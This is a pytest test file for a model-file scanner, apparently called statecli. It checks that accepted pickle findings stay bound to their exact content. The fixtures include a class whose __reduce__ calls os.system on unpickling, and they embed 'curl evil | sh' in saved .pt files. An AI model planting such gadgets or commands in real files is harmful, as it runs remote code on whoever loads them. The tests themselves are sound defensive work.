"""What was accepted once is accepted with its content: another payload under the same name fails."""

from __future__ import annotations

import json
import os
import pickle
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file


class Command:
    """Pickled as a call of os.system."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def save(command, path="a.pt"):
    torch.save({"w": torch.zeros(1), "x": Command(command)}, path)


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


ACCEPT = ("--write-baseline", "b.json", "--reason", "known")
PICKLES = ("audit", "a.pt", "--select", "pickles")


def test_another_command_of_an_accepted_call_fails(statecli, folder):
    """`os.system` was accepted for `echo hello`, not for anything else."""
    save("echo hello")
    assert statecli(*PICKLES, *ACCEPT).code == 0
    assert statecli(*PICKLES, "--baseline", "b.json").code == 0
    save("curl evil | sh")
    found = statecli(*PICKLES, "--baseline", "b.json")
    assert found.code == 1
    assert "its content has changed" in found.err


def test_the_same_payload_with_other_weights_is_accepted(statecli, folder):
    """The digest is that of the pickle, not of the tensors."""
    torch.save({"w": torch.zeros(4), "x": Command("echo")}, "a.pt")
    statecli(*PICKLES, *ACCEPT)
    torch.save({"w": torch.ones(4), "x": Command("echo")}, "a.pt")
    assert statecli(*PICKLES, "--baseline", "b.json").code == 0


@pytest.mark.parametrize("legacy", [True, False])
def test_another_nested_pickle_fails(statecli, folder, legacy):
    """A pickle in a string, in both containers."""
    for command, code in (("echo", 0), ("curl", 1)):
        payload = {"w": torch.zeros(1), "x": pickle.dumps(Command(command))}
        torch.save(payload, "a.pt", _use_new_zipfile_serialization=not legacy)
        if not code:
            statecli(*PICKLES, *ACCEPT)
        assert statecli(*PICKLES, "--baseline", "b.json").code == code


def test_another_pickle_that_cannot_be_read_fails(statecli, folder):
    """What follows the place where the scan stopped is part of the content."""
    for tail, code in ((b"a", 0), (b"b", 1)):
        Path("a.pkl").write_bytes(pickle.dumps([1, 2])[:-1] + b"\xff" * 9 + tail * 9)
        if not code:
            statecli("audit", "a.pkl", "--select", "unscanned-pickle", *ACCEPT)
            assert json.loads(Path("b.json").read_text())["findings"]
        accepted = statecli("audit", "a.pkl", "--select", "unscanned-pickle", "--baseline", "b.json", "-f", "json")
        assert bool(accepted.json["findings"]) is bool(code)


def test_other_values_of_an_accepted_mismatch_fail(statecli, folder):
    """The digest that was found is accepted, not any digest."""
    save_file({"w": torch.zeros(3)}, "m.safetensors")
    assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
    audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
    save_file({"w": torch.ones(3)}, "m.safetensors")
    assert statecli(*audit, *ACCEPT).code == 0
    assert statecli(*audit, "--baseline", "b.json").code == 0
    save_file({"w": torch.full((3,), 6.0)}, "m.safetensors")
    assert statecli(*audit, "--baseline", "b.json").code == 1


@pytest.mark.parametrize("tensors", [{"w": torch.zeros(3), "new": torch.ones(2)}, {"w": torch.ones(3).half()}])
def test_a_mismatch_without_a_digest_is_never_accepted(statecli, folder, tensors):
    """An added tensor, or a tensor of another dtype: any values would pass."""
    save_file({"w": torch.zeros(3)}, "m.safetensors")
    assert statecli("lock", "m.safetensors", "-o", "lock.json").code == 0
    audit = ("audit", "m.safetensors", "--lock", "lock.json", "--select", "lock")
    save_file(tensors, "m.safetensors")
    statecli(*audit, *ACCEPT)
    save_file({name: tensor * 7 for name, tensor in tensors.items()}, "m.safetensors")
    assert statecli(*audit, "--baseline", "b.json").code == 1


def test_more_nan_than_were_accepted_fail(statecli, folder):
    """For rules without a digest the message is the content."""
    audit = ("audit", "a.pt", "--select", "nan", "--values")
    torch.save({"w": torch.tensor([float("nan"), 1.0, 2.0])}, "a.pt")
    assert statecli(*audit, *ACCEPT).code == 0
    torch.save({"w": torch.tensor([float("nan"), float("nan"), 2.0])}, "a.pt")
    assert statecli(*audit, "--baseline", "b.json").code == 1


def test_the_fingerprint_of_another_payload_is_another(statecli, folder):
    """A finding that was dismissed in code scanning does not hide the next one."""
    prints = set()
    for command in ("echo", "curl evil | sh"):
        save(command)
        results = statecli(*PICKLES, "-f", "sarif").json["runs"][0]["results"]
        prints.add(
            next(one for one in results if one["ruleId"] == "unsafe-global")["partialFingerprints"]["statecli/v1"]
        )
    assert len(prints) == 2


def test_a_baseline_that_accepts_by_name_is_refused(statecli, folder):
    """One line, exit 2, with what to type."""
    save("echo")
    Path("b.json").write_text('{"schema": "statecli.baseline/1", "findings": []}')
    found = statecli(*PICKLES, "--baseline", "b.json")
    assert (found.code, found.err.count("\n")) == (2, 1)
    assert "write it again: --write-baseline" in found.err


def ignore(*contents):
    listed = f"contents = {json.dumps(contents)}\n" if contents else ""
    Path("statecli.toml").write_text(f'[per-target-ignore."*.pt"]\nrules = ["pickles"]\nreason = "known"\n{listed}')


def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folder):
    """A name alone accepts nothing; a note says what to list."""
    Path(".git").mkdir()
    save("echo hello")
    ignore()
    found = statecli(*PICKLES, "-f", "json")
    (content,) = {one["content"] for one in found.json["findings"] if "content" in one}
    assert found.code == 1
    assert f'accepted only with its content: "{content}"' in found.err
    ignore(content)
    assert statecli(*PICKLES).code == 0
    save("curl evil | sh")
    assert statecli(*PICKLES).code == 1
